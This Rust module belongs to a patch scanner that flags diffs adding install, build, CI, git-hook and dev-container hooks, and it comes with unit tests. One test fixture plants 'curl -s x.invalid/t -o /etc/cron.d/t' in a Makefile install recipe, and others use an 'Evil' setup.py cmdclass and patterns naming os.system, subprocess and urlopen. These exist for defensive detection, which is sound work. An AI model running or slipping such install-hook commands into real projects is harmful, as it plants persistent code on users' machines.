//! Install and build hooks: code that runs by itself when someone installs,
//! builds, opens or commits to the repository. Added or changed hooks are
//! flagged: package manifest scripts (`preinstall`, `install`,
//! `postinstall`, `prepare`, …), `setup.py` command classes and
//! `pyproject.toml` build hooks, Cargo build scripts, CI files, git hooks,
//! editor and dev-container start commands, `.envrc`, and the recipe of a
//! Makefile's `install` target.
use std::sync::LazyLock;

use regex::Regex;

use super::{Category, FileChange, FileStatus, Finding, Patch, excerpt};

const SCANNER: &str = "hooks";

/// Files whose every change is a change to what runs by itself.
fn hook_file(path: &str) -> Option<&'static str> {
    let lower = path.to_ascii_lowercase();
    let name = lower.rsplit('/').next().unwrap_or(&lower);
    // `dir` at the start or after a `/` (no string made per check).
    let under = |dir: &str| {
        lower.starts_with(dir)
            || lower
                .match_indices(dir)
                .any(|(i, _)| i > 0 && lower.as_bytes()[i - 1] == b'/')
    };
    if name == "build.rs" {
        Some("a Cargo build script (runs on every build)")
    } else if under(".github/workflows/")
        || under(".github/actions/")
        || under(".circleci/")
        || under(".buildkite/")
        || matches!(
            name,
            ".gitlab-ci.yml"
                | ".travis.yml"
                | "azure-pipelines.yml"
                | "jenkinsfile"
                | "bitbucket-pipelines.yml"
                | ".drone.yml"
                | "appveyor.yml"
                | "cloudbuild.yaml"
        )
    {
        Some("a CI file (runs with the repository's CI credentials)")
    } else if under(".git/hooks/")
        || under(".githooks/")
        || under(".husky/")
        || matches!(
            name,
            "lefthook.yml" | ".lefthook.yml" | ".pre-commit-config.yaml" | ".pre-commit-hooks.yaml"
        )
    {
        Some("a git hook (runs on a developer's commit or push)")
    } else if name == ".envrc" {
        Some("a direnv file (runs when a shell enters the directory)")
    } else if lower.ends_with(".vscode/tasks.json") {
        Some("an editor task file (can run when the folder opens)")
    } else {
        None
    }
}

/// Added lines that define a hook in a manifest, by file name.
static MANIFEST_HOOKS: LazyLock<Vec<(&'static str, Regex, &'static str)>> = LazyLock::new(|| {
    [
        (
            "package.json",
            r#""(?:pre|post)?(?:install|uninstall|prepare|prepublish|prepublishonly|prepack|postpack|pack)"\s*:"#,
            "a package lifecycle script (runs on npm install)",
        ),
        (
            "composer.json",
            r#""(?:pre|post)-(?:install|update|autoload-dump|package-install)-cmd"\s*:"#,
            "a Composer install script",
        ),
        (
            "setup.py",
            r"\bcmdclass\b|\bclass\s+\w+\s*\(\s*(?:install|develop|build_py|build_ext|egg_info|sdist|bdist_\w+)\b|\b(?:os\.system|subprocess|exec|eval|urlopen)\b",
            "code in setup.py that runs on install",
        ),
        (
            "pyproject.toml",
            r"^\s*\[(?:build-system|tool\.hatch\.build\.hooks[^\]]*|tool\.setuptools\.cmdclass|tool\.pdm\.build|tool\.poetry\.build)\]|^\s*(?:build-backend|backend-path)\s*=",
            "a Python build hook or backend",
        ),
        (
            "cargo.toml",
            r#"^\s*build\s*=\s*""#,
            "a Cargo build script setting",
        ),
        (
            "devcontainer.json",
            r#""(?:postCreateCommand|postStartCommand|postAttachCommand|onCreateCommand|updateContentCommand|initializeCommand)"\s*:"#,
            "a dev-container start command",
        ),
        (
            "gemfile",
            r"^\s*(?:system|exec|eval)\b|`",
            "code in a Gemfile (runs on bundle install)",
        ),
    ]
    .into_iter()
    .filter_map(|(name, re, why)| {
        regex::RegexBuilder::new(re)
            .case_insensitive(true)
            .multi_line(true)
            .build()
            .ok()
            .map(|r| (name, r, why))
    })
    .collect()
});

/// A Makefile target line: `name ...:`.
static MAKE_TARGET: LazyLock<Option<Regex>> = LazyLock::new(|| {
    Regex::new(r"^([A-Za-z0-9_.%/-]+(?:\s+[A-Za-z0-9_.%/-]+)*)\s*::?(?:[^=]|$)").ok()
});

/// Checks one changed file of `patch`.
pub fn scan_change(patch: &Patch, change: &FileChange, out: &mut Vec<Finding>) {
    if change.status == FileStatus::Deleted {
        return;
    }
    let path = &change.path;
    if let Some(why) = hook_file(path) {
        let verb = if change.status == FileStatus::Added {
            "adds"
        } else {
            "changes"
        };
        out.push(Finding {
            category: Category::MaliciousPatch,
            scanner: SCANNER,
            reason: format!("the patch {verb} {why}"),
            file: path.clone(),
            line: change.added.first().map(|l| l.number),
        });
        return;
    }
    let name = path.rsplit('/').next().unwrap_or(path).to_ascii_lowercase();
    for (file, re, why) in MANIFEST_HOOKS.iter() {
        if name != *file {
            continue;
        }
        if let Some((n, line)) = patch.added(change).find(|(_, l)| re.is_match(l)) {
            out.push(Finding {
                category: Category::MaliciousPatch,
                scanner: SCANNER,
                reason: format!("the patch adds or changes {why}: `{}`", excerpt(line)),
                file: path.clone(),
                line: Some(n),
            });
        }
        return;
    }
    if name == "makefile" || name == "gnumakefile" || name.ends_with(".mk") {
        scan_makefile(patch, change, out);
    }
}

/// A Makefile's `install` target runs with the installer's rights: flag an
/// added line inside its recipe, or an added `install:` line.
fn scan_makefile(patch: &Patch, change: &FileChange, out: &mut Vec<Finding>) {
    let Some(target_re) = MAKE_TARGET.as_ref() else {
        return;
    };
    // Added and context lines in file order, to know each line's target.
    let mut lines: Vec<(u32, &str, bool)> = patch
        .added(change)
        .map(|(n, l)| (n, l, true))
        .chain(change.context.iter().map(|(n, l)| (*n, l.as_str(), false)))
        .collect();
    lines.sort_by_key(|(n, _, _)| *n);
    let mut in_install = false;
    for (n, line, added) in lines {
        if !line.starts_with('\t')
            && let Some(c) = target_re.captures(line)
        {
            in_install = c[1].split_whitespace().any(|t| {
                matches!(
                    t,
                    "install" | "install-exec" | "install-data" | "postinstall"
                )
            });
            if in_install && added {
                out.push(Finding {
                    category: Category::MaliciousPatch,
                    scanner: SCANNER,
                    reason: format!(
                        "the patch adds a Makefile install target: `{}`",
                        excerpt(line)
                    ),
                    file: change.path.clone(),
                    line: Some(n),
                });
                return;
            }
            continue;
        }
        if in_install && added && line.starts_with('\t') {
            out.push(Finding {
                category: Category::MaliciousPatch,
                scanner: SCANNER,
                reason: format!(
                    "the patch changes the recipe of a Makefile install target: `{}`",
                    excerpt(line)
                ),
                file: change.path.clone(),
                line: Some(n),
            });
            return;
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::detect::Patch;

    fn scan(diff: &str) -> Vec<Finding> {
        let mut out = Vec::new();
        let patch = Patch::parse(diff);
        for c in &patch.files {
            scan_change(&patch, c, &mut out);
        }
        out
    }

    fn one(path: &str, status: &str, lines: &[&str]) -> String {
        let mut d = format!(
            "diff --git a/{path} b/{path}\n{status}--- a/{path}\n+++ b/{path}\n@@ -1,0 +1,{} @@\n",
            lines.len()
        );
        for l in lines {
            d.push_str(l);
            d.push('\n');
        }
        d
    }

    #[test]
    fn the_regexes_compile() {
        assert_eq!(MANIFEST_HOOKS.len(), 7);
        assert!(MAKE_TARGET.is_some());
    }

    #[test]
    fn hooks_are_flagged_where_they_run() {
        let cases = [
            one(
                "package.json",
                "",
                &["+    \"postinstall\": \"node x.js\","],
            ),
            one("web/package.json", "", &["+    \"prepare\": \"husky\","]),
            one("setup.py", "", &["+    cmdclass={'install': Evil},"]),
            one("pyproject.toml", "", &["+[tool.hatch.build.hooks.custom]"]),
            one(
                "crates/x/build.rs",
                "new file mode 100644\n",
                &["+fn main() {}"],
            ),
            one(".github/workflows/ci.yml", "", &["+    - run: echo"]),
            one(
                ".husky/pre-commit",
                "new file mode 100755\n",
                &["+npm test"],
            ),
            one(".envrc", "", &["+export X=1"]),
            one(
                ".devcontainer/devcontainer.json",
                "",
                &["+  \"postCreateCommand\": \"./s\","],
            ),
            one("Makefile", "", &["+install:", "+\tcp x /usr/local/bin"]),
        ];
        for d in cases {
            let f = scan(&d);
            assert_eq!(f.len(), 1, "{d}: {f:?}");
            assert_eq!(f[0].category, Category::MaliciousPatch);
        }
    }

    #[test]
    fn look_alikes_are_not_flagged() {
        let cases = [
            one(
                "package.json",
                "",
                &["+    \"test\": \"jest\",", "+  \"version\": \"1.2.0\","],
            ),
            one("src/builder.rs", "", &["+fn build() {}"]),
            one(
                "docs/install.md",
                "",
                &["+Run `npm install` then `npm run postinstall`."],
            ),
            one(
                "pyproject.toml",
                "",
                &["+[tool.ruff]", "+line-length = 100"],
            ),
            one("Makefile", "", &["+test:", "+\tcargo test"]),
        ];
        for d in cases {
            assert_eq!(scan(&d), vec![], "{d}");
        }
    }

    #[test]
    fn a_recipe_line_under_an_existing_install_target_is_flagged() {
        let d = "diff --git a/Makefile b/Makefile\n--- a/Makefile\n+++ b/Makefile\n@@ -3,2 +3,3 @@\n install: all\n \tcp kiln $(PREFIX)/bin\n+\tcurl -s x.invalid/t -o /etc/cron.d/t\n";
        let f = scan(d);
        assert_eq!(f[0].line, Some(5));
    }
}
